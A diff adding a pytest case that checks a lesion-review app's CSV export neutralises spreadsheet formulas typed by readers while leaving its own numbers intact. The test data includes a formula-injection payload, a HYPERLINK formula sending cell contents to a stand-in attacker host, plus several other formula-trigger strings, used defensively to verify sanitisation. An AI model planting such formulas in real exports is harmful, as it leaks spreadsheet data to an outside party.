@@ -271,6 +271,32 @@ def test_verdicts_round_trip_two_tabs_and_csv(standin):
     assert worklist_row["reviewed"]
 
 
+def test_verdict_csv_neutralises_formulas_but_not_our_numbers(tmp_path):
+    """Text a reader typed that a spreadsheet would run as a formula gets a leading ' in verdicts.csv (rows end in
+    CRLF); numbers we write (a negative box coordinate) stay numbers; the JSON API keeps the text as typed."""
+    run = tmp_path / "run"
+    write_result(run, ImageResult("-scan", "/nowhere/a.png", 300, 200, 0.9, 0.5, "malignant",
+                                  [LesionResult([-2.5, 3.0, 40.0, 50.0], 0.9, 0.7)]))
+    client = TestClient(create_app([run]), base_url=LOCAL)
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    saves = [{"reader": evil, "boxes": {"0": {"lesion": "true lesion"}}, "image": {"comment": "=1+1"}},
+             {"reader": "@SUM(A1)", "image": {"comment": "\tcmd"}}, {"reader": "+x", "image": {"comment": "\r1"}},
+             {"reader": "Dr -", "image": {"comment": "-2 cm, fine"}}]
+    for body in saves:
+        assert client.post("/api/verdicts/0/-scan", json=body).status_code == 200
+    text = client.get("/runs/0/verdicts.csv").text
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == 5 and text.endswith("\r\n") and text.count("\r\n") == 1 + 5  # the header and each row
+    box = next(r for r in rows if r["box"] == "1")
+    assert box["reader"] == "'" + evil and box["image_id"] == "'-scan"
+    assert (box["x1"], box["y1"], box["malignancy"]) == ("-2.5", "3.0", "0.7")  # ours: numbers, not mangled
+    comments = {r["reader"]: r["comment"] for r in rows if r["box"] == ""}
+    assert comments == {"'" + evil: "'=1+1", "'@SUM(A1)": "'\tcmd", "'+x": "'\r1", "Dr -": "'-2 cm, fine"}
+    stored = {v["reader"]: v["comment"] for v in client.get("/api/verdicts/0/-scan").json()["verdicts"]
+              if v["box"] < 0}
+    assert stored[evil] == "=1+1" and stored["+x"] == "\r1"  # the store keeps what was typed
+
+
 @pytest.mark.parametrize("body,status", [
     ({"reader": "", "boxes": {"0": {"lesion": "unsure"}}}, 422),
     ({"reader": "x" * 81, "image": {"agreement": "agree"}}, 422),
